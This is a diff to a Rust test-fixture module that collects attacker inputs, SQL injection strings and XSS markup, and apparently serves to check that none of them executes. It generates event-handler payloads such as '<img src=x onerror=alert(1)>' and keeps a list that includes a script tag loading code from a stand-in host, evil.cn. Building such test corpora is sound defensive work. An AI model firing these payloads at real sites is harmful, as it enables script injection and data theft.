@@ -1,5 +1,7 @@
 //! What attackers type: SQL in every dialect's quoting, and markup in every corner a browser has.
 
+use std::sync::LazyLock;
+
 /// S12.
 pub const SQL: &[&str] = &[
     "'",
@@ -24,8 +26,53 @@ pub const SQL: &[&str] = &[
     "\u{202e}'\u{feff}--",
 ];
 
-/// S15. `alert(1)` is what must never run.
-pub const MARKUP: &[&str] = &[
+/// S15. `alert(1)` is what must never run: the payloads written down here, and every event handler of a
+/// page on the elements that fire it.
+pub static MARKUP: LazyLock<Vec<&'static str>> = LazyLock::new(|| {
+    let handlers = EVENTS.iter().flat_map(|event| {
+        ELEMENTS
+            .iter()
+            .map(move |element| format!("<{element} {event}=alert(1)>"))
+    });
+    let made = handlers.map(|text| &*text.leak());
+    let mut all: Vec<&'static str> = WRITTEN.to_vec();
+    all.extend(made.filter(|m| !WRITTEN.contains(m)));
+    all
+});
+
+const ELEMENTS: &[&str] = &["img src=x", "svg", "body", "input autofocus", "video src=x"];
+
+const EVENTS: &[&str] = &[
+    "onload",
+    "onerror",
+    "onclick",
+    "onfocus",
+    "onblur",
+    "onmouseover",
+    "onmouseenter",
+    "onpointerdown",
+    "ontouchstart",
+    "onwheel",
+    "onscroll",
+    "onkeydown",
+    "oninput",
+    "onchange",
+    "onsubmit",
+    "ontoggle",
+    "onbegin",
+    "onend",
+    "onrepeat",
+    "onanimationstart",
+    "ontransitionend",
+    "oncanplay",
+    "onloadstart",
+    "onpageshow",
+    "onhashchange",
+    "onmessage",
+    "onbeforeunload",
+];
+
+const WRITTEN: &[&str] = &[
     "<script>alert(1)</script>",
     "<ScRiPt>alert(1)</sCrIpT>",
     "<script src=//evil.cn/x.js></script>",
@@ -101,6 +148,6 @@ pub const MARKUP: &[&str] = &[
 #[test]
 fn there_are_enough_and_each_once() {
     let all: std::collections::BTreeSet<&&str> = MARKUP.iter().collect();
-    assert!(all.len() == MARKUP.len() && all.len() >= 60);
+    assert!(all.len() == MARKUP.len() && all.len() >= 200);
     assert!(MARKUP.iter().filter(|p| p.contains("alert(1)")).count() >= 60);
 }
